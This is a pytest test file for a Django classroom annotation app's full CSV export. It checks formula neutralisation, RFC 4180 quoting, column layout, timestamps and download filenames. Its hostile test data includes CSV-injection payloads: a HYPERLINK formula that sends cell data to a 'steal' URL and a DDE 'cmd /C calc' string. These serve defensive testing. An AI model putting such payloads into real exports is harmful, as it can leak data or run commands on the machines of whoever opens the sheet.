"""The CSV (all columns) export (docs/EXPORT.md): its columns, its quoting, and formulas
that cannot run. The teacher's sheet, what "Export CSV" gives, is in
tests/test_export_teacher_csv.py.

What a teacher downloads is opened in a spreadsheet, so every cell that a spreadsheet
would run (starting with = + - @, a tab or a carriage return) must carry a leading
apostrophe, and removing that one apostrophe must give back exactly what was stored.
"""

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.core.management import call_command
from django.http import StreamingHttpResponse
from django.utils import timezone

from annotations.models import ClassHide, Classroom, Highlight, Membership
from tests.helpers import make_user

URL = "/export/annotations-all.csv"
TEACHER_URL = "/export/annotations.csv"
BOM = b"\xef\xbb\xbf"
EXPORT_DOC = Path(__file__).resolve().parent.parent / "docs" / "EXPORT.md"


def documented_columns() -> list[str]:
    """The columns of the CSV in docs/EXPORT.md's table (`| 1 | `highlight_id` | ...`),
    in their documented order."""
    section = EXPORT_DOC.read_text().split("## The CSV", 1)[1].split("\n## ", 1)[0]
    rows = re.findall(r"^\| (\d+) \| `(\w+)` \|", section, re.M)
    assert [int(number) for number, _ in rows] == list(range(1, len(rows) + 1)), rows
    return [column for _, column in rows]


DOCUMENTED_COLUMNS = documented_columns()
LIVE = ("=", "+", "-", "@", "\t", "\r")
FORMULA_SIGNS = ("=", "+", "-", "@")


def is_live(cell: str) -> bool:
    """Would a spreadsheet, or an importer that trims the cell first, run it?"""
    return cell.startswith(LIVE) or cell.lstrip().startswith(FORMULA_SIGNS)


ISO_UTC = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z")

# A cell that starts with one of these is a formula to a spreadsheet.
# The last three are live only after whitespace, for importers that trim (issue 15).
FORMULAS = ["=SUM(A1)", "+1", "-2", "@cmd", "\t=x", "\r=x", " =SUM(A1)", "\n+1", "  @cmd"]
HOSTILE_NOTES = [
    *FORMULAS,
    '=HYPERLINK("http://example.com/steal?d="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "commas, commas, and more commas,",
    'double "quotes", and ""doubled"" ones"',
    "first line\nsecond line\n\nfourth line",
    "Windows lines\r\nsecond\r\n=third after a line break",
    "한국어 Русский 中文",
    "emoji 😀, outside the BMP: 𝄞 🇰🇷 👩‍👩‍👧",
    '<b>bold</b> <script>alert("x")</script> &amp; <!-- comment -->',
    "'a leading apostrophe that is not before a formula",
    "",
]
HOSTILE_TAGS = [
    *FORMULAS,
    "a, comma",
    'say "hi"',
    "line\nbreak",
    "한국어",
    "Русский",
    "中文",
    "😀 𝄞",
    "<i>markup</i>",
]
# (document, phrase): passages to hang the notes on, one starting with a minus sign.
PASSAGES = [
    ("stalin-and-korean-war", "Stalin was hardly surprised."),
    ("stalin-and-korean-war", "Kim Il-sung had reported"),
    ("stalin-and-korean-war", "amphibious operation in Incheon"),
    ("stalins-hot-war", "Kim II Sung, was Stalin's puppet"),
    ("stalins-hot-war", '- the only "hot" war'),
    ("korean-war-view-from-the-other-side", "Russia's Stalin was a key player"),
]


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def parse(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def restored(cell: str) -> str:
    """The exact text back: one leading apostrophe off a neutralised formula."""
    if cell.startswith("'") and is_live(cell[1:]):
        return cell[1:]
    return cell


def utc(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def stored(highlight: Highlight) -> dict[str, str]:
    """Every column as the documentation says it is computed, from the database."""
    highlight = Highlight.objects.select_related("owner", "document", "assignment__classroom").get(
        pk=highlight.pk
    )
    entries = sorted(highlight.glossary_entries.all(), key=lambda entry: entry.name)
    assignment = highlight.assignment
    owner = highlight.owner
    return {
        "highlight_id": str(highlight.pk),
        "created": utc(highlight.created),
        "updated": utc(highlight.updated),
        "author_username": owner.username,
        "author_name": f"{owner.first_name} {owner.last_name}".strip(),
        "class": assignment.classroom.name if assignment else "",
        "assignment_id": str(assignment.pk) if assignment else "",
        "assignment": assignment.title if assignment else "",
        "document_slug": highlight.document.slug,
        "document_title": highlight.document.title,
        "document_revision": str(highlight.revision),
        "paragraph": str(highlight.document.paragraph_at(highlight.start).number),
        "start": str(highlight.start),
        "end": str(highlight.end),
        "quote": highlight.exact,
        "prefix": highlight.prefix,
        "suffix": highlight.suffix,
        "note": highlight.note,
        "tags": "; ".join(sorted(highlight.tags.names())),
        "glossary_entries": "; ".join(entry.name for entry in entries),
        "glossary_entry_ids": "; ".join(entry.slug for entry in entries),
        "glossary_entry_kinds": "; ".join(entry.kind for entry in entries),
        "glossary_wikidata_ids": "; ".join(entry.wikidata for entry in entries),
        "visibility": highlight.visibility,
        "hidden": "true" if ClassHide.objects.filter(highlight=highlight).exists() else "false",
        "anchor_status": highlight.anchor_status,
        "url": f"http://testserver/documents/{highlight.document.slug}/#h-{highlight.pk}",
    }


def as_dicts(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    """Rows by highlight id. Cells beyond the header are left to the test that counts them."""
    header, *records = rows
    return {record[0]: dict(zip(header, record, strict=False)) for record in records}


@pytest.fixture
def mallory(db):
    """A student whose every field is hostile, in a class and assignment named to match."""
    return make_user("mallory", '=HYPERLINK("http://example.com","x")', "@SUM(1+1)")


@pytest.fixture
def hostile_highlights(documents, glossary, mallory, make_highlight, make_assignment):
    classroom = Classroom.objects.create(name="+Class =1")
    Membership.objects.create(classroom=classroom, user=mallory, role=Membership.Role.STUDENT)
    assignment = make_assignment(
        classroom, title="-Assignment @once", days=3, documents=documents.values()
    )
    highlights = []
    for number, note in enumerate(HOSTILE_NOTES):
        slug, phrase = PASSAGES[number % len(PASSAGES)]
        highlight = make_highlight(mallory, phrase, doc=documents[slug], note=note)
        if number % 2:
            highlight.assignment = assignment
            highlight.visibility = Highlight.Visibility.CLASS
            highlight.save()
        highlights.append(highlight)
    highlights[0].tags.set(HOSTILE_TAGS)
    highlights[1].tags.set(HOSTILE_TAGS[6:])
    highlights[2].tags.set(["-2", "Cold War"])
    highlights[3].glossary_entries.set([glossary["joseph-stalin"], glossary["kim-il-sung"]])
    return highlights


@pytest.fixture
def linked(student, glossary, make_highlight):
    """A highlight linked to entries whose names sort otherwise than their Wikidata ids."""
    highlight = make_highlight(student, "Kim Il-sung had reported", tags=["motive", "archives"])
    highlight.glossary_entries.set(
        [
            glossary["moscow"],  # place, Q649
            glossary["kim-il-sung"],  # person, Q39031
            glossary["kathryn-weathersby"],  # person, no Wikidata id
            glossary["joseph-stalin"],  # person, Q855
        ]
    )
    return highlight


def test_it_writes_the_documented_header(client, student, make_highlight):
    make_highlight(student, "Stalin was hardly surprised.")
    client.force_login(student)

    rows = parse(body(client.get(URL)))

    assert rows[0] == DOCUMENTED_COLUMNS
    assert len(rows[0]) == 27


def command_csv(tmp_path, *options) -> bytes:
    path = tmp_path / "export.csv"
    call_command(
        "export_annotations",
        "--base-url",
        "http://testserver",
        "--format",
        "csv-all",
        "-o",
        str(path),
        *options,
        stderr=io.StringIO(),
    )
    return path.read_bytes()


@pytest.mark.parametrize("source", ["web", "command", "command --as"])
def test_it_writes_one_row_of_27_cells_a_highlight(
    client, mallory, hostile_highlights, tmp_path, source
):
    client.force_login(mallory)

    if source == "web":
        rows = parse(body(client.get(URL)))
    else:
        rows = parse(command_csv(tmp_path, *(["--as", "mallory"] if "--as" in source else [])))

    assert len(rows) == 1 + len(hostile_highlights)
    assert [len(row) for row in rows] == [27] * len(rows), "as many cells as the header"
    assert sorted(row[0] for row in rows[1:]) == sorted(str(h.pk) for h in hostile_highlights)


@pytest.mark.parametrize("excel", [False, True])
def test_it_writes_the_same_csv_from_the_command(
    client, mallory, hostile_highlights, tmp_path, excel
):
    client.force_login(mallory)
    web = body(client.get(URL, {"excel": "1"} if excel else {}))

    content = command_csv(tmp_path, "--as", "mallory", *(["--excel"] if excel else []))

    assert content.startswith(BOM) is excel
    assert content == web


def test_it_gives_back_every_stored_value_after_one_apostrophe(client, mallory, hostile_highlights):
    client.force_login(mallory)

    rows = parse(body(client.get(URL)))

    header = rows[0]
    assert header == DOCUMENTED_COLUMNS
    for row in rows[1:]:
        got = dict(zip(header, [restored(cell) for cell in row], strict=False))
        want = stored(Highlight.objects.get(pk=int(row[0])))
        assert got == want


@pytest.mark.parametrize("note", HOSTILE_NOTES, ids=range(len(HOSTILE_NOTES)))
def test_it_keeps_each_hostile_note(client, mallory, hostile_highlights, note):
    highlight = hostile_highlights[HOSTILE_NOTES.index(note)]
    client.force_login(mallory)

    rows = as_dicts(parse(body(client.get(URL))))

    assert restored(rows[str(highlight.pk)]["note"]) == note


def test_it_keeps_hostile_tags_in_alphabetical_order(client, mallory, hostile_highlights):
    client.force_login(mallory)

    rows = as_dicts(parse(body(client.get(URL))))

    cell = rows[str(hostile_highlights[0].pk)]["tags"]
    assert cell.startswith("'\t=x; \n+1; \r=x;   @cmd;  =SUM(A1); +1; -2; ")
    assert restored(cell) == "; ".join(sorted(HOSTILE_TAGS))
    assert restored(rows[str(hostile_highlights[2].pk)]["tags"]) == "-2; Cold War"


def test_it_lets_no_cell_start_a_formula(client, mallory, hostile_highlights):
    client.force_login(mallory)

    rows = parse(body(client.get(URL)))

    live = [
        (number, column, cell)
        for number, row in enumerate(rows)
        for column, cell in zip(rows[0], row, strict=False)
        if is_live(cell)
    ]
    assert live == []


def test_it_neutralises_names_of_people_classes_and_assignments(
    client, mallory, hostile_highlights
):
    client.force_login(mallory)

    rows = as_dicts(parse(body(client.get(URL))))

    row = rows[str(hostile_highlights[1].pk)]
    assert row["author_name"] == """'=HYPERLINK("http://example.com","x") @SUM(1+1)"""
    assert row["class"] == "'+Class =1"
    assert row["assignment"] == "'-Assignment @once"
    assert rows[str(hostile_highlights[0].pk)]["note"] == "'=SUM(A1)"
    assert rows[str(hostile_highlights[4].pk)]["note"] == "'\t=x"
    assert rows[str(hostile_highlights[5].pk)]["note"] == "'\r=x"


def test_it_neutralises_a_quote_that_starts_with_a_minus(client, mallory, hostile_highlights):
    client.force_login(mallory)

    rows = as_dicts(parse(body(client.get(URL))))

    row = rows[str(hostile_highlights[4].pk)]
    assert row["quote"] == """'- the only "hot" war"""


def test_it_quotes_fields_as_rfc_4180_says(client, mallory, hostile_highlights):
    client.force_login(mallory)

    content = body(client.get(URL))

    assert b'"double ""quotes"", and """"doubled"""" ones"""' in content
    assert b'"first line\nsecond line\n\nfourth line"' in content
    assert b'"Windows lines\r\nsecond\r\n=third after a line break"' in content
    assert content.endswith(b"\n")
    assert not content.endswith(b"\r\n")


def test_it_starts_the_excel_variant_with_a_byte_order_mark(client, mallory, hostile_highlights):
    client.force_login(mallory)

    plain = body(client.get(URL))
    excel = body(client.get(URL, {"excel": "1"}))

    assert excel.startswith(BOM)
    assert not plain.startswith(BOM)
    assert parse(excel.removeprefix(BOM)) == parse(plain)


def test_it_gives_the_paragraph_as_the_reading_view_numbers_it(
    client, student, documents, make_highlight
):
    highlights = [make_highlight(student, phrase, doc=documents[slug]) for slug, phrase in PASSAGES]
    first = documents["stalin-and-korean-war"]
    highlights.append(make_highlight(student, first.text[:10], doc=first))  # the title
    client.force_login(student)

    rows = as_dicts(parse(body(client.get(URL))))

    for highlight in highlights:
        expected = highlight.document.paragraph_at(highlight.start).number
        assert rows[str(highlight.pk)]["paragraph"] == str(expected)
    assert rows[str(highlights[-1].pk)]["paragraph"] == "1"


def test_it_lines_up_the_glossary_columns(client, student, linked):
    client.force_login(student)

    row = as_dicts(parse(body(client.get(URL))))[str(linked.pk)]

    names = row["glossary_entries"].split("; ")
    slugs = row["glossary_entry_ids"].split("; ")
    kinds = row["glossary_entry_kinds"].split("; ")
    wikidata = row["glossary_wikidata_ids"].split("; ")
    assert list(zip(names, slugs, kinds, wikidata, strict=True)) == [
        ("Joseph Stalin", "joseph-stalin", "person", "Q855"),
        ("Kathryn Weathersby", "kathryn-weathersby", "person", ""),
        ("Kim Il-sung", "kim-il-sung", "person", "Q39031"),
        ("Moscow", "moscow", "place", "Q649"),
    ]
    assert row["tags"] == "archives; motive"


def test_it_lines_up_two_entries_whose_wikidata_ids_sort_the_other_way(
    client, student, glossary, make_highlight
):
    highlight = make_highlight(student, "Stalin was hardly surprised.")
    highlight.glossary_entries.set([glossary["kim-il-sung"], glossary["joseph-stalin"]])
    client.force_login(student)

    row = as_dicts(parse(body(client.get(URL))))[str(highlight.pk)]

    assert row["glossary_entries"] == "Joseph Stalin; Kim Il-sung"
    assert row["glossary_entry_ids"] == "joseph-stalin; kim-il-sung"
    assert row["glossary_entry_kinds"] == "person; person"
    assert row["glossary_wikidata_ids"] == "Q855; Q39031"


def test_it_writes_times_in_utc_iso_8601(client, student, make_highlight):
    highlight = make_highlight(student, "Stalin was hardly surprised.")
    created = datetime(2026, 11, 22, 9, 15, 3, 123456, tzinfo=UTC)
    updated = datetime(2026, 11, 23, 23, 59, 59, 999, tzinfo=UTC)
    Highlight.objects.filter(pk=highlight.pk).update(created=created, updated=updated)
    client.force_login(student)

    row = as_dicts(parse(body(client.get(URL))))[str(highlight.pk)]

    assert row["created"] == "2026-11-22T09:15:03Z"
    assert row["updated"] == "2026-11-23T23:59:59Z"
    assert ISO_UTC.fullmatch(row["created"])
    assert datetime.fromisoformat(row["created"]) == created.replace(microsecond=0)


def test_it_links_each_row_to_the_highlight_in_the_reading_view(
    client, student, documents, make_highlight
):
    highlights = [
        make_highlight(student, phrase, doc=documents[slug]) for slug, phrase in PASSAGES[2:5]
    ]
    client.force_login(student)

    rows = as_dicts(parse(body(client.get(URL))))

    for highlight in highlights:
        url = rows[str(highlight.pk)]["url"]
        assert url.startswith("http://testserver/")
        assert url.endswith(f"/documents/{highlight.document.slug}/#h-{highlight.pk}")


def test_it_writes_the_flags_and_the_assignment(
    client, teacher, student, classroom, documents, make_assignment
):
    assignment = make_assignment(classroom, title="Who started it?", days=3)
    document = documents["stalin-and-korean-war"]
    start = document.text.index("Stalin was hardly surprised.")
    highlight = Highlight.objects.create(
        owner=student,
        document=document,
        revision=document.revision,
        start=start,
        end=start + 6,
        exact="Stalin",
        visibility="class",
        anchor_status="reanchored",
        assignment=assignment,
    )
    ClassHide.objects.create(highlight=highlight, classroom=classroom)
    client.force_login(teacher)

    row = as_dicts(parse(body(client.get(URL))))[str(highlight.pk)]

    assert row["class"] == "History 101"
    assert row["assignment_id"] == str(assignment.pk)
    assert row["assignment"] == "Who started it?"
    assert row["visibility"] == "class"
    assert row["hidden"] == "true"
    assert row["anchor_status"] == "reanchored"
    assert row["author_username"] == "student"
    assert row["author_name"] == "Min-jun Kim"


def test_it_orders_rows_by_the_text_within_each_article(client, student, documents, make_highlight):
    later = make_highlight(student, "amphibious operation in Incheon")
    earlier = make_highlight(student, "Kim Il-sung had reported")
    middle = make_highlight(student, "Stalin was hardly surprised.")
    client.force_login(student)

    rows = parse(body(client.get(URL, {"document": "stalin-and-korean-war"})))

    assert [row[0] for row in rows[1:]] == [str(earlier.pk), str(middle.pk), str(later.pk)]


def test_it_writes_only_the_header_when_there_is_nothing(client, student, documents):
    client.force_login(student)

    content = body(client.get(URL))

    assert content == (",".join(DOCUMENTED_COLUMNS) + "\n").encode()


# The response


@pytest.fixture
def filtered(teacher, student, classroom, glossary, make_highlight, make_assignment):
    assignment = make_assignment(classroom, title="Sources", days=3)
    highlight = make_highlight(
        student, "Stalin was hardly surprised.", tags=["Cold War"], assignment=assignment
    )
    highlight.glossary_entries.set([glossary["kim-il-sung"]])
    return {"classroom": classroom, "assignment": assignment}


@pytest.mark.parametrize(
    ("params", "name"),
    [
        ({}, "korea-reader-highlights"),
        ({"assignment": "{assignment}"}, "history-101_assignment-{assignment}"),
        ({"classroom": "{classroom}"}, "history-101"),
        (
            {"classroom": "{classroom}", "assignment": "{assignment}"},
            "history-101_assignment-{assignment}",
        ),
        ({"document": "stalins-hot-war"}, "stalins-hot-war"),
        ({"student": "student"}, "student"),
        ({"tag": "cold-war"}, "tag-cold-war"),
        ({"entry": "kim-il-sung"}, "kim-il-sung"),
        ({"since": "2026-01-01", "until": "2026-12-31"}, "korea-reader-highlights"),
        (
            {"assignment": "{assignment}", "student": "student", "entry": "kim-il-sung"},
            "history-101_assignment-{assignment}_student_kim-il-sung",
        ),
    ],
)
@pytest.mark.parametrize(
    ("path", "variant", "extension"),
    [
        (TEACHER_URL, "", "csv"),
        (URL, "_all-columns", "csv"),
        ("/export/annotations.jsonld", "", "jsonld"),
    ],
)
def test_it_names_the_file_after_what_it_holds(
    client, teacher, filtered, params, name, path, variant, extension
):
    ids = {key: value.pk for key, value in filtered.items()}
    client.force_login(teacher)

    response = client.get(path, {key: value.format(**ids) for key, value in params.items()})

    assert response.status_code == 200
    today = timezone.localdate().isoformat()
    expected = f"{name.format(**ids)}{variant}_{today}.{extension}"
    assert response["Content-Disposition"] == f'attachment; filename="{expected}"'
    body(response)


def test_it_sends_csv_that_is_not_cached(client, student, make_highlight):
    make_highlight(student, "Stalin was hardly surprised.")
    client.force_login(student)

    response = client.get(URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "private" in [part.strip() for part in response["Cache-Control"].split(",")]
    assert response["Content-Disposition"].startswith('attachment; filename="')
    body(response)


def test_it_streams_the_header_first(client, student, make_highlight):
    make_highlight(student, "Stalin was hardly surprised.")
    make_highlight(student, "Kim Il-sung had reported")
    client.force_login(student)

    response = client.get(URL)

    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming is True
    chunks = iter(response.streaming_content)
    assert next(chunks) == (",".join(DOCUMENTED_COLUMNS) + "\n").encode()
    rest = b"".join(chunks)
    assert len(parse(rest)) == 2
    response.close()


def test_it_streams_the_byte_order_mark_then_the_header(client, student, make_highlight):
    make_highlight(student, "Stalin was hardly surprised.")
    client.force_login(student)

    response = client.get(URL, {"excel": "1"})

    assert response.streaming is True
    content = b"".join(response.streaming_content)
    assert content.startswith(BOM + (",".join(DOCUMENTED_COLUMNS) + "\n").encode())
